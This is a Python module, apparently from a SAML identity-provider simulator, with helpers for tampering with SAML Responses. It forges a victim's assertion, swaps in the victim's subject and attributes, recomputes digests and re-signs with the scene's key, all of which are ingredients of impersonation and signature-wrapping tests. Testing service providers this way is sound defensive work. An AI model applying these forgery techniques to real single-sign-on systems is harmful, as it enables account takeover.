"""A Response as a document that is taken apart: its parts, what its signatures cover, and the victim put into it."""

from __future__ import annotations

import hashlib
from base64 import b64encode
from collections.abc import Iterator
from copy import deepcopy
from typing import TYPE_CHECKING, TypeAlias

from lxml import etree

from idpsim.sso.tamper.hooks import Scene

if TYPE_CHECKING:
    from cryptography.hazmat.primitives.hashes import HashAlgorithm

Element: TypeAlias = etree._Element

SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
DS = "http://www.w3.org/2000/09/xmldsig#"
EXCLUSIVE = "http://www.w3.org/2001/10/xml-exc-c14n#"
EVIL_ASSERTION, EVIL_RESPONSE = "_evil_assertion_ID", "_evil_response_ID"


def parsed(document: bytes) -> Element:
    """A document of our own; CDATA sections stay."""
    return etree.fromstring(document, etree.XMLParser(strip_cdata=False, resolve_entities=False, huge_tree=True))


def assertion(response: Element) -> Element:
    """The assertion of a Response of our own; one that says an error has none: LookupError."""
    found = response.find(f"{{{SAML}}}Assertion")
    if found is None:
        raise LookupError("The Response has no assertion.")
    return found


def signature(element: Element) -> Element | None:
    """The signature that stands in this element itself."""
    return element.find(f"{{{DS}}}Signature")


def removed(element: Element | None) -> None:
    """Take an element out of its document."""
    if element is not None and (parent := element.getparent()) is not None:
        parent.remove(element)


def signed_part(response: Element) -> Element:
    """The assertion, where it has a signature of its own (the Response's is removed then), or the Response."""
    inner = assertion(response)
    if signature(inner) is None:
        return response
    removed(signature(response))
    return inner


def signatures(response: Element) -> Iterator[Element]:
    """The signatures, those within others' reach first."""
    for element in (assertion(response), response):
        if (found := signature(element)) is not None:
            yield found


def forged(scene: Scene) -> Element:
    """The Response, unsigned, that would have been issued to the victim."""
    if scene.forged is None:
        raise LookupError("The scene forges no Response.")
    return scene.forged(scene.victim)


def evil_assertion(scene: Scene, id_: str) -> Element:
    """The victim's assertion, unsigned, with this ID."""
    made = assertion(forged(scene))
    made.set("ID", id_)
    return made


def pose(response: Element, scene: Scene) -> None:
    """All that the Response contains becomes the victim's; it keeps its own attributes, and loses its signatures."""
    _contain(response, forged(scene))


def name_the_victim(response: Element, scene: Scene) -> None:
    """Subject and attributes of the assertion become the victim's; everything else stays, signatures too."""
    mine, theirs = assertion(response), assertion(forged(scene))
    for path in (f"{{{SAML}}}Subject/{{{SAML}}}NameID", f"{{{SAML}}}AttributeStatement"):
        old, new = mine.find(path), theirs.find(path)
        if old is not None and new is not None:
            old.text = new.text
            _contain(old, new)


def _contain(element: Element, other: Element) -> None:
    for child in tuple(element):
        element.remove(child)
    element.extend(tuple(other))


def content(signature_: Element, *others: Element) -> bytes:
    """What this signature's Reference covers where it stands now, canonical; `others` are left out as well."""
    root = signature_.getroottree().getroot()
    nodes = list(root.iter())
    # Parsed anew: lxml heeds inclusive prefixes only where a parser has read their declarations.
    again = list(parsed(etree.tostring(root)).iter())
    copies = [again[nodes.index(each)] for each in (signature_, *others)]
    covered = copies[0].getparent()
    if covered is None:
        raise LookupError("The signature stands alone.")
    for copy in copies:
        removed(copy)
    return canonical(covered, signature_)


def canonical(element: Element, signature_: Element | None = None) -> bytes:
    """Exclusive canonical XML, with the inclusive prefixes of this signature's Reference."""
    inclusive = (
        None if signature_ is None else signature_.find(f".//{{{DS}}}Reference//{{{EXCLUSIVE}}}InclusiveNamespaces")
    )
    prefixes = None if inclusive is None else inclusive.get("PrefixList", "").split()
    return etree.tostring(element, method="c14n", exclusive=True, inclusive_ns_prefixes=prefixes)


def digest(signature_: Element, data: bytes) -> str:
    """The digest of these bytes, base64, as this signature's first Reference makes it."""
    method = signature_.find(f".//{{{DS}}}DigestMethod")
    name = "sha256" if method is None else method.get("Algorithm", "").rpartition("#")[2]
    return b64encode(hashlib.new(name, data, usedforsecurity=False).digest()).decode()


def refer(part: Element, value: str, uri: str | None = None) -> None:
    """Set the digest, and where given the URI, of the first Reference in this element."""
    reference, held = part.find(f".//{{{DS}}}Reference"), part.find(f".//{{{DS}}}DigestValue")
    if held is not None:
        held.text = value
    if reference is not None and uri is not None:
        reference.set("URI", uri)


def signed_again(signature_: Element, scene: Scene, data: bytes | None = None) -> None:
    """The right key signs SignedInfo as it now is (or these bytes)."""
    from cryptography.hazmat.primitives.asymmetric.padding import PKCS1v15

    info, value = signature_.find(f"{{{DS}}}SignedInfo"), signature_.find(f"{{{DS}}}SignatureValue")
    assert info is not None
    assert value is not None
    if data is None:
        data = canonical(deepcopy(info))
    value.text = b64encode(scene.signing.key.sign(data, PKCS1v15(), _hash(info))).decode()


def _hash(info: Element) -> HashAlgorithm:
    from cryptography.hazmat.primitives import hashes

    method = info.find(f"{{{DS}}}SignatureMethod")
    name = "" if method is None else method.get("Algorithm", "")
    known = {"sha1": hashes.SHA1, "sha512": hashes.SHA512}
    return known.get(name.rpartition("-")[2], hashes.SHA256)()
